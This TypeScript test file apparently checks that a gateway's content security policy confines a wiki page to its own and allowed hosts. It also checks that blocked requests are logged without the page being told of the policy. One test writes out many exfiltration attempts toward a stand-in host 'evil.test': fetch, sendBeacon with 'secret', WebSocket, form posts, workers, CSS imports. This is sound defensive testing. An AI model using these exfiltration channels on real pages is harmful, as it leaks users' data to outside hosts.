import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Page } from 'playwright-core';
import { launchChromium, type TestBrowser } from '../../support/chromium.ts';
import type { Handler } from '../../support/origin.ts';
import { sendSignIn } from '../../support/sign-in-form.ts';
import { startTestGateway, type TestGateway } from '../../support/test-gateway.ts';
import { loggedRows } from '../../support/written-row.ts';

const JS = 'text/javascript';
const HTML = 'text/html; charset=utf-8';
const PIXEL =
  '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><rect width="1" height="1" fill="red"/></svg>';
/** Answers every message with how a fetch of it went. */
const WORKER = `onmessage = async ({ data }) => postMessage(await fetch(data, { mode: 'no-cors' }).then(() => 'sent', () => 'kept in'));`;
const FILES: Readonly<Record<string, readonly [type: string, body: string, headers?: Record<string, string>]>> = {
  '/pixel.svg': ['image/svg+xml', PIXEL],
  '/script.js': [JS, 'window.scripts = (window.scripts ?? 0) + 1;'],
  '/worker.js': [JS, WORKER],
  '/data.json': ['application/json', '{"here":true}'],
  '/strict': [
    HTML,
    '<!doctype html><script nonce="n">window.ran = "by nonce"</script><script>window.evil = 1</script>',
    { 'content-security-policy': "script-src 'nonce-n'; img-src 'none'" },
  ],
};

describe('a confined page in a browser', () => {
  let gateway: TestGateway;
  let browser: TestBrowser;
  let page: Page;
  let home: string;
  const handler: Handler = (request, response) => {
    const path = (request.url ?? '').replace(/[?#].*/, '');
    const [type, body, headers] = FILES[path] ?? [HTML, '<!doctype html><title>Wiki</title><body>page</body>'];
    if (path === '/out') response.writeHead(302, { location: 'https://redirected.test/pixel.svg' }).end();
    else response.writeHead(200, { 'content-type': type, 'access-control-allow-origin': '*', ...headers }).end(body);
  };
  before(async () => {
    gateway = await startTestGateway({
      handler,
      change: (config) => ({
        ...config,
        apps: config.apps.map((app) => ({
          ...app,
          confinement: { mode: 'enforce', external: ['https://allowed.test'], signIn: [] },
        })),
      }),
    });
    const outside = ['evil.test', 'allowed.test', 'redirected.test'];
    browser = await launchChromium(
      outside.map((host) => `MAP ${host}:443 127.0.0.1:${gateway.origin.port}`).join(', '),
    );
    page = await browser.context.newPage();
    home = `${gateway.suffix('wiki.corp.test')}/`;
    await page.goto(home);
    await sendSignIn(page, { username: 'alice', password: 'a' });
    await page.waitForURL(home);
  });
  after(async () => {
    await browser?.close();
    await gateway?.close();
  });

  const run = <Result>(script: string): Promise<Result> => page.evaluate(`(async () => { ${HELP} ${script} })()`);
  const HELP = `
    const load = (tag, attributes) => new Promise((done) => {
      const element = Object.assign(document.createElement(tag), attributes);
      element.onload = () => done('loaded'); element.onerror = () => done('kept in');
      document.body.append(element);
    });
    const ask = (url) => fetch(url, { mode: 'no-cors' }).then(() => 'sent', () => 'kept in');
    const work = (worker, url) => new Promise((done) => { worker.onmessage = ({ data }) => done(data); worker.onerror = () => done('no worker'); worker.postMessage(url); });
    const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
    const submit = (action) => {
      const frame = document.createElement('iframe'); frame.name = 'target' + Math.random(); document.body.append(frame);
      const form = Object.assign(document.createElement('form'), { action, method: 'post', target: frame.name });
      document.body.append(form);
      return new Promise((done) => { frame.onload = () => { if (frame.contentWindow.location.href !== 'about:blank') done('sent'); }; if (!action.startsWith('/')) setTimeout(done, 2000, 'kept in'); form.submit(); });
    };
    const settle = () => new Promise((done) => setTimeout(done, 200));
  `;
  const seenOf = (host: string): readonly string[] =>
    gateway.origin.seen.filter(({ headers }) => headers.host === host).map(({ method, url }) => `${method} ${url}`);
  const escapes = async (wanted: readonly string[]): Promise<readonly string[]> => {
    let found: readonly string[] = [];
    for (let look = 0; look < 2400; look++) {
      found = loggedRows(gateway.directory, { type: 'escape' })
        .map(({ object }) => `${object?.name} ${object?.type}`)
        .sort();
      if (wanted.every((each) => found.includes(each))) break;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    return found;
  };

  test('works with the hosts of its app, with what is in it, and with hosts that are allowed', async () => {
    const results = await run(`
      const at = 'https://static.corp.test';
      return [
        await load('img', { src: at + '/pixel.svg' }), await load('script', { src: at + '/script.js' }), await load('img', { src: 'data:image/svg+xml,' + encodeURIComponent(${JSON.stringify(PIXEL)}) }),
        await load('iframe', { srcdoc: '<p>x' }), await load('iframe', { src: '/page' }), await ask('/data.json'), await ask(at + '/data.json'),
        await work(new Worker('/worker.js'), '/data.json'), await work(new Worker(blob(${JSON.stringify(WORKER)})), location.origin + '/data.json'),
        eval('1 + 1'), new Function('return 3')(), await submit('/page'), await load('img', { src: 'https://allowed.test/pixel.svg' }), await ask('https://allowed.test/data.json'),
        await new Promise((done) => { window.clicked = done; document.body.insertAdjacentHTML('beforeend', '<a id=j href="javascript:void clicked(4)" onclick="window.handled = 5">'); document.getElementById('j').click(); }), window.handled,
        await new Promise((done) => { window.acted = done; document.body.insertAdjacentHTML('beforeend', '<form id=f action="javascript:void acted(6)">'); document.getElementById('f').submit(); }),
      ];`);
    const loaded = 'loaded';
    const sent = 'sent';
    assert.deepEqual(results, [
      ...[loaded, loaded, loaded, loaded, loaded, sent, sent, sent, sent, 2, 3, sent, loaded, sent, 4, 5, 6],
    ]);
  });

  test('reaches no other host by any road that a policy can close, and the log names it', async () => {
    const results = await run(`
      const evil = 'https://evil.test';
      const socket = new Promise((done) => { const s = new WebSocket('wss://evil.test/ws'); s.onopen = () => done('sent'); s.onerror = () => done('kept in'); });
      const events = new Promise((done) => { const s = new EventSource(evil + '/events'); s.onopen = () => done('sent'); s.onerror = () => { s.close(); done('kept in'); }; });
      const xhr = new Promise((done) => { const x = new XMLHttpRequest(); x.open('GET', evil + '/xhr'); x.onload = () => done('sent'); x.onerror = () => done('kept in'); x.send(); });
      navigator.sendBeacon(evil + '/beacon', 'secret');
      document.head.insertAdjacentHTML('beforeend', '<style>@import url(https://evil.test/import.css); @font-face { font-family: E; src: url(https://evil.test/font.woff2) } body { font-family: E; background: url(https://evil.test/background) }</style>');
      const frame = document.createElement('iframe'); frame.src = evil + '/frame'; document.body.append(frame);
      document.body.insertAdjacentHTML('beforeend', '<object data="https://evil.test/object"></object><video src="https://evil.test/video"></video><link rel=prefetch href="https://evil.test/prefetch"><link rel=manifest href="https://evil.test/manifest">');
      const results = [
        await load('img', { src: evil + '/image?secret' }), await load('script', { src: evil + '/script.js' }), await load('link', { rel: 'stylesheet', href: evil + '/sheet.css' }),
        await ask(evil + '/fetch?secret'), await submit(evil + '/form'), await socket, await events, await xhr,
        await work(new Worker('/worker.js'), evil + '/from-worker'), await work(new Worker(blob(${JSON.stringify(WORKER)})), evil + '/from-blob'),
        await load('img', { src: '/out' }),
        await new Promise((done) => { const f = document.createElement('iframe'); f.srcdoc = '<script>fetch("https://evil.test/from-srcdoc", { mode: "no-cors" }).then(() => parent.said("sent"), () => parent.said("kept in"))</' + 'script>'; window.said = done; document.body.append(f); }),
        await import(evil + '/module.js').then(() => 'sent', () => 'kept in'),
      ];
      await settle();
      return results;`);
    assert.deepEqual(results, Array(13).fill('kept in'));
    assert.deepEqual([...seenOf('evil.test'), ...seenOf('redirected.test')], []);
    const wanted = [
      'img-src',
      'script-src-elem',
      'style-src-elem',
      'connect-src',
      'form-action',
      'frame-src',
      'font-src',
    ];
    const found = await escapes(wanted.map((type) => `evil.test ${type}`));
    for (const type of wanted) assert.ok(found.includes(`evil.test ${type}`), `${type} in ${found.join(', ')}`);
  });

  test('is not told of our policy: no event, no report, no header field', async () => {
    const seen = await run(`
      const told = [];
      addEventListener('securitypolicyviolation', (event) => told.push('window ' + event.originalPolicy), true);
      document.addEventListener('securitypolicyviolation', (event) => told.push('document ' + event.originalPolicy));
      const observer = new ReportingObserver((reports) => told.push(...reports.map(({ body }) => 'report ' + body.originalPolicy)), { types: ['csp-violation'], buffered: true });
      observer.observe();
      await load('img', { src: 'https://evil.test/again' }); await ask('https://evil.test/again'); await settle();
      told.push(...observer.takeRecords().map(() => 'record'));
      const answer = await fetch('/page');
      told.push(answer.headers.get('content-security-policy'), [...answer.headers].flat().filter((text) => /mcas|sallyport/.test(text)));
      const x = new XMLHttpRequest(); x.open('GET', '/page', false); x.send();
      told.push(x.getResponseHeader('content-security-policy'), /content-security|sallyport|mcas/.test(x.getAllResponseHeaders()));
      return told;`);
    assert.deepEqual(seen, [null, [], null, false]);
    await page.evaluate("document.open(); document.write('<p>anew</p>'); document.close()");
    const anew = await run(`
      const told = []; addEventListener('securitypolicyviolation', () => told.push('event'), true);
      await ask('https://evil.test/anew'); await settle(); return told;`);
    assert.deepEqual(anew, []);
  });

  test('is told of its own policy as ever, which stays as strict', async () => {
    await page.goto(`${home}strict`);
    const seen = await page.evaluate(`(async () => {
      const told = new Promise((done) => document.addEventListener('securitypolicyviolation', ({ originalPolicy, effectiveDirective }) => done([originalPolicy, effectiveDirective])));
      document.body.append(Object.assign(new Image(), { src: '/pixel.svg' }));
      return [window.ran, window.evil, await told, (await fetch('/strict')).headers.get('content-security-policy')];
    })()`);
    const own = "script-src 'nonce-n'; img-src 'none'";
    assert.deepEqual(seen, ['by nonce', undefined, [own, 'img-src'], own]);
  });
});
